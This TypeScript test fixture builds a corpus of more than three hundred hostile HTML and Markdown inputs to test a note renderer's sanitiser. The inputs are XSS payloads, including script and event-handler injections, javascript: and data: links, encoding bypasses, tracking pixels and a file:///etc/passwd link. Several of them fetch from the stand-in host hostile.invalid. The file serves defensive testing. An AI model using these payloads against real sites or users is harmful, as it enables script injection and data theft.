/** Where a hostile note would send what it takes. Nothing is there; a test asserts that nobody asked. */
export const hostileOrigin = 'https://hostile.invalid'

/** What each payload would do if it ran: leave a mark in the window, and ask its server. */
const run = `window.__ran=1;fetch('${hostileOrigin}/ran')`
const call = 'window.__ran=1'
const pixel = `${hostileOrigin}/pixel.gif`

/** Ways in, as they are known of browsers, of Markdown and of sanitisers. */
const ways: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${hostileOrigin}/x.js></SCRIPT>`,
  `<script/x>${run}</script/x>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${call}//`,
  `<img/src='x'/onerror='${call}'>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src="${pixel}">`,
  `<img srcset="${pixel} 1x">`,
  `<picture><source srcset="${pixel}"><img></picture>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math href="javascript:${call}">x</math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="${hostileOrigin}/frame"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<body onload="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<select autofocus onfocus="${call}">`,
  `<textarea autofocus onfocus="${call}"></textarea>`,
  `<details open ontoggle="${call}">x</details>`,
  `<video><source onerror="${call}"></video>`,
  `<video poster="${pixel}"></video>`,
  `<audio src=x onerror="${call}">`,
  `<marquee onstart="${call}">x</marquee>`,
  `<form action="${hostileOrigin}/take"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<isindex action="javascript:${call}" type=submit>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="&#106;avascript:${call}">x</a>`,
  `<link rel=stylesheet href="${hostileOrigin}/x.css">`,
  `<link rel=prefetch href="${hostileOrigin}/x">`,
  `<style>@import '${hostileOrigin}/x.css';</style>`,
  `<style>body{background:url(${pixel})}</style>`,
  `<div style="background:url(${pixel})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">x</div>`,
  `<meta http-equiv=refresh content="0;url=${hostileOrigin}/gone">`,
  `<base href="${hostileOrigin}/">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<x onclick="${call}" id=__ran name=__ran>x</x>`,
  `<a id=location name=body>x</a>`,
  `[x](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](javascript&colon;${call})`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call})`,
  `[x](java%0ascript:${call})`,
  `[x](<java\tscript:${call}>)`,
  `[x](<\u0001javascript:${call}>)`,
  `[x](<\u00a0javascript:${call}>)`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html,<script>${call}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://x/1)`,
  `[x](app://bowtie/index.html)`,
  `[x](//hostile.invalid/x)`,
  `[x](http://hostile.invalid/x)`,
  `[x](https://hostile.invalid/"onmouseover="${call})`,
  `[x](https://hostile.invalid 'title" onmouseover="${call}')`,
  `<javascript:${call}>`,
  `<data:text/html,x>`,
  `[x]: javascript:${call}\n\n[x]`,
  `[a]: <data:text/html,x> "t"\n\n[a]`,
  `![x](${pixel})`,
  `![x](javascript:${call})`,
  `![x](data:image/svg+xml,<svg onload=${call}>)`,
  `![x][p]\n\n[p]: ${pixel}`,
  `[![x](${pixel})](javascript:${call})`,
  `![x](//hostile.invalid/p.gif)`,
  '```"><img src=x onerror=window.__ran=1>\nx\n```',
  `\`<img src=x onerror=${call}>\``,
  `*<img src=x onerror=${call}>*`,
  `| <img src=x onerror=${call}> |\n|:-:|\n| <script>${call}</script> |`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\<script>${call}</script>`,
]

/** Where in a note a way in may stand. */
const places: readonly { readonly name: string; readonly put: (way: string) => string }[] = [
  { name: 'alone', put: (way) => way },
  { name: 'in a list', put: (way) => `- a\n- ${way.replaceAll('\n', '\n  ')}\n- b` },
  { name: 'in a quote', put: (way) => `> ${way.replaceAll('\n', '\n> ')}` },
  { name: 'in a sentence', put: (way) => `客户说：${way} 下周再谈。` },
]

export interface HostileNote {
  readonly name: string
  readonly text: string
}

/** More than three hundred hostile texts: each way in at each place. */
export const hostileNotes: readonly HostileNote[] = ways.flatMap((way, index) =>
  places.map(({ name, put }) => ({ name: `${index} ${name}: ${way.slice(0, 60)}`, text: put(way) })),
)
